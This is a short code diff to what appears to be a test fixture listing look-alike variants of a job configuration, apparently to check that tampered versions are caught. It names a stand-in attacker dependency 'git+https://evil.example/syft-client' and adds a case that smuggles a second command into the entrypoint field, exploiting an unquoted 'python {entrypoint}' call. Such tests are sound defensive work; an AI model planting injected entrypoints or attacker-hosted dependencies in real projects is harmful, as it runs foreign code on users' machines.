@@ -40,10 +40,10 @@ LOOK_ALIKES: dict[str, dict[str, Any]] = {
         "config_changes": {"dependencies": ["git+https://evil.example/syft-client"]},
         "run_sh": script_for("main.py", ("git+https://evil.example/syft-client",)),
     },
-    "other-entrypoint": {
-        "files": {"main.py": MAIN_PY, "params.json": b"import os\n"},
-        "config_changes": {"entrypoint": "params.json"},
-        "run_sh": script_for("params.json"),
+    # Same files; the generated script runs `python {entrypoint}` unquoted.
+    "entrypoint": {
+        "config_changes": {"entrypoint": "main.py; " + EVIL_LINE.strip()},
+        "run_sh": script_for("main.py; " + EVIL_LINE.strip()),
     },
     "bash-type": {
         "config_changes": {"type": "bash", "entrypoint": None, "dependencies": []},
